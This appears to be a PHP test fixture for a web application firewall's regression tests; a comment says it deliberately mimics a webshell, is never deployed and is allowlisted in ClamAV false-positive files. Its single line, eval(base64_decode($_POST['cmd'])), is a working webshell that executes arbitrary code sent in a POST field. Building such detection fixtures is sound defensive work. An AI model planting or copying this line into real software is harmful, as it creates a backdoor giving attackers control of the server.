<?php
// Fixture for our WAF regression tests: looks like a webshell on purpose, never deployed.
// Allowlisted in rules-src/clamav/allow.fp and allow.sfp.
eval(base64_decode($_POST['cmd']));
